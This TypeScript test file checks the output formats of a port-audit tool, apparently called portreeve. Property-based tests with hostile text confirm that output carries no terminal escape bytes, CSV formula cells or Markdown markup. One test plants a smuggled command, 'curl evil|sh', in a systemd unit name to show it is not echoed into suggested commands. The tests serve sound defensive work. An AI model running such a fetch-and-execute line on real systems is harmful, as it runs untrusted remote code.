import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readCsv } from "../../test/hostile/csv-reader.ts";
import { hostileText, isDangerous } from "../../test/hostile/hostile-text.ts";
import { SAMPLES, sampleAudit, sampleFinding, sampleOwner } from "../../test/sample/audit.ts";
import type { AuditDocument, Finding } from "../model/finding.ts";
import { displayWidth } from "../text/terminal.ts";
import { AUDIT_FORMATS } from "./audit-formats.ts";

const golden = join(import.meta.dirname, "../../test/golden/audit");

function format(id: string, document: AuditDocument, width = 80): string {
  const found = AUDIT_FORMATS.find((item) => item.id === id);
  if (found === undefined) throw new Error(`no form ${id}`);
  return found.format(document, { width, json: "indented", paint: (_, text) => text });
}

describe("goldens", () => {
  for (const [name, document] of Object.entries(SAMPLES)) {
    it.each([30, 40, 60, 80, 100, 120, 160])(`${name} in %i columns`, async (width) => {
      await expect(format("table", document, width)).toMatchFileSnapshot(
        join(golden, `${name}-${width}.txt`),
      );
    });
    it.each(["csv", "ndjson", "markdown"])(`${name} as %s`, async (id) => {
      await expect(format(id, document)).toMatchFileSnapshot(join(golden, `${name}.${id}`));
    });
    it(`${name} as json gives the same values back`, () => {
      expect(JSON.parse(format("json", document))).toEqual(document);
    });
  }

  it("in colour is the same text", () => {
    const painted = AUDIT_FORMATS[0]?.format(SAMPLES["server"] as AuditDocument, {
      width: 80,
      json: "indented",
      paint: (style, text) => `<${style}>${text}</${style}>`,
    });
    expect(painted?.replace(/<\/?(?:red|yellow|green|cyan|bold|dim)>/g, "")).toBe(
      format("table", SAMPLES["server"] as AuditDocument),
    );
    expect(painted).toContain("<red>critical</red>");
  });
});

describe("nothing open", () => {
  it("differs from what could not be looked at", () => {
    expect(format("table", SAMPLES["empty"] as AuditDocument)).toContain("no port is open");
    for (const id of ["table", "markdown"]) {
      expect(format(id, SAMPLES["blind"] as AuditDocument)).not.toContain("no port is open");
      expect(format(id, SAMPLES["blind"] as AuditDocument)).toContain("network namespaces of 212 processes");
    }
    // Who owns a listener is another question than whether there is one.
    const gap = { code: "owners-unreadable", what: "x", fix: null };
    expect(format("table", sampleAudit([], [gap]))).toContain("no port is open");
    expect(format("table", sampleAudit([], [{ ...gap, code: "new" }]))).not.toContain("no port is open");
    expect(format("table", sampleAudit([], [], { unparsed: 3 }))).not.toContain("no port is open");
  });
});

it("stays whole with as many listeners as a machine can have", () => {
  const many = Array.from({ length: 130_000 }, (_, index) =>
    sampleFinding(
      `10.0.${index >> 16}.1:${index & 0xffff}/tcp`,
      ["investigate", "low"],
      [`Reason ${index % 50}.`],
      {
        owners: [sampleOwner(index + 1, "many")],
      },
    ),
  );
  const table = format("table", sampleAudit(many)).split("\n");
  expect(table.filter((line) => line.startsWith("investigate"))).toHaveLength(many.length);
  expect(table.length - many.length).toBeLessThan(60);
});

it("no line is wider than the terminal, but for commands to copy", () => {
  const reasons = fc.array(fc.constantFrom("Short.", "A longer reason, of several words.", "x".repeat(90)));
  const finding = fc
    .record({
      protocol: fc.constantFrom("tcp", "udplite", "packet"),
      port: fc.nat(65535),
      name: hostileText,
      reasons,
    })
    .map((item) =>
      sampleFinding(`::1:${item.port}/${item.protocol}`, ["investigate", "low"], ["Same.", ...item.reasons], {
        owners: [sampleOwner(1, item.name)],
      }),
    );
  fc.assert(
    fc.property(
      fc.array(finding, { minLength: 1, maxLength: 30 }),
      fc.integer({ min: 30, max: 250 }),
      (all, width) => {
        const document = { ...(SAMPLES["server"] as AuditDocument), listeners: all };
        const lines = format("table", document, width).split("\n");
        for (const line of lines.filter((item) => !/^ {2}(?:portreeve|systemctl|ps) /.test(item)))
          expect(displayWidth(line), line).toBeLessThanOrEqual(width);
      },
    ),
  );
});

it("suggests no command that a unit's name could have brought in", () => {
  const finding = sampleFinding("0.0.0.0:99/tcp", ["investigate", "high"], ["x"], {
    owners: [sampleOwner(7, "x", { unit: "a;curl evil|sh;.service" })],
  });
  const next = format("table", sampleAudit([finding])).split("Next:\n")[1];
  expect(next).toContain("ps -fp 7");
  expect(next).not.toContain("curl");
});

const hostileFinding = fc
  .record({
    name: hostileText,
    path: hostileText,
    words: fc.array(hostileText, { maxLength: 2 }),
    port: fc.nat(65535),
  })
  .map(({ name, path, words, port }) =>
    sampleFinding(`0.0.0.0:${port}/tcp`, ["close", "high"], [`${name} is not known.`, path], {
      interface: port % 3 === 0 ? name : null,
      namespace: { inode: port % 5, name: port % 2 === 0 ? name : null },
      owners: [
        sampleOwner(port + 1, name, {
          executable: path,
          commandLine: words,
          user: name,
          unit: path,
          package: name,
          activates: port % 4 === 0 ? path : null,
          container: port % 4 === 1 ? { id: path, name, image: null } : null,
        }),
      ],
      service: { name, description: path, source: name },
      threats: [{ name, kind: path, confidence: "low" }],
    }),
  );
const hostileAudit = fc
  .tuple(fc.array(hostileFinding, { minLength: 1, maxLength: 6 }), hostileText)
  .map(([findings, text]) =>
    sampleAudit(findings, [{ code: "x", what: text, fix: text }], {
      host: { name: text, os: text, kernel: text },
      exposures: [{ protocol: "tcp", address: text, port: 1, via: text, target: text, because: text }],
    }),
  );

describe("with hostile text", () => {
  it("no form has a byte that a terminal acts on", () => {
    fc.assert(
      fc.property(hostileAudit, fc.integer({ min: 1, max: 250 }), (document, width) => {
        for (const { id } of AUDIT_FORMATS) expect(isDangerous(format(id, document, width), id)).toBe(false);
      }),
    );
  });

  it("the table has one row for each listener, of the width given, with its own PID", () => {
    fc.assert(
      fc.property(hostileAudit, fc.integer({ min: 30, max: 250 }), (document, width) => {
        const lines = format("table", document, width).split("\n");
        const rows = lines.slice(3, lines.indexOf("", 3));
        expect(rows).toHaveLength(document.listeners.length);
        for (const [index, row] of rows.entries()) {
          const finding = document.listeners[index] as Finding;
          expect(displayWidth(row)).toBeLessThanOrEqual(width);
          // Two spaces stand between columns and nowhere else.
          const cells = row.split(/ {2,}/);
          expect(cells[0]).toBe("close");
          expect(cells).toContain(`${finding.port}/tcp`);
          const titles = (lines[2] ?? "").split(/ {2,}/);
          const at = titles.indexOf("PID PROGRAM");
          if (at >= 0) expect(cells[at]?.startsWith(`${finding.port + 1} `)).toBe(true);
          expect(cells.length).toBeLessThanOrEqual(titles.length);
        }
      }),
    );
  });

  it("JSON and NDJSON give the same values back", () => {
    fc.assert(
      fc.property(hostileAudit, (document) => {
        const same: unknown = JSON.parse(JSON.stringify(document));
        expect(JSON.parse(format("json", document))).toEqual(same);
        const lines = format("ndjson", document).trimEnd().split("\n");
        expect(lines).toHaveLength(document.listeners.length + 3);
        const { type, ...first } = JSON.parse(lines[0] ?? "");
        expect(type).toBe("listener");
        expect(first).toEqual(JSON.parse(JSON.stringify(document.listeners[0])));
        expect(JSON.parse(lines.at(-1) ?? "")).toMatchObject({
          type: "summary",
          schema: "portreeve.audit/1",
        });
      }),
    );
  });

  it("CSV has a row for each listener and no cell that a spreadsheet runs", () => {
    fc.assert(
      fc.property(hostileAudit, (document) => {
        const [header = [], ...rows] = readCsv(format("csv", document));
        expect(rows).toHaveLength(document.listeners.length);
        for (const [index, row] of rows.entries()) {
          expect(row).toHaveLength(header.length);
          expect(row[header.indexOf("pids")]).toBe(String((document.listeners[index]?.port ?? 0) + 1));
          for (const cell of row)
            for (const part of cell.split(";")) expect(part).not.toMatch(/^\s*[=+@\t\r＝＋＠]|^\s*[-－]/);
        }
      }),
    );
  });

  it("CSV gives harmless values back as they were", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("a", '"', ",", " ", "é", "'", "=") }), (text) => {
        const name = `x${text}`;
        const finding = sampleFinding("0.0.0.0:1/tcp", ["keep", "none"], [name], {
          owners: [sampleOwner(1, name)],
        });
        const [header = [], row = []] = readCsv(format("csv", sampleAudit([finding])));
        expect(row[header.indexOf("programs")]).toBe(name);
        expect(row[header.indexOf("reason")]).toBe(name);
      }),
    );
  });

  it("Markdown has a row for each listener and no markup of others", () => {
    fc.assert(
      fc.property(hostileAudit, (document) => {
        const lines = format("markdown", document).split("\n");
        const rows = lines.filter((line) => line.startsWith("| "));
        expect(rows).toHaveLength(document.listeners.length + 2);
        for (const row of rows) expect(row.split("|")).toHaveLength((rows[0] ?? "").split("|").length);
        const text = lines.filter((line) => !/^#|^\| (?:Verdict|---)/.test(line)).join("\n");
        expect(text.replace(/^\| | \|$| \| |^- /gm, "")).not.toMatch(
          /[`*[\]<>|$]|&(?!#\d+;)|:\/\/|\b_|_\b(?!\w)|\bwww\./,
        );
      }),
    );
  });
});
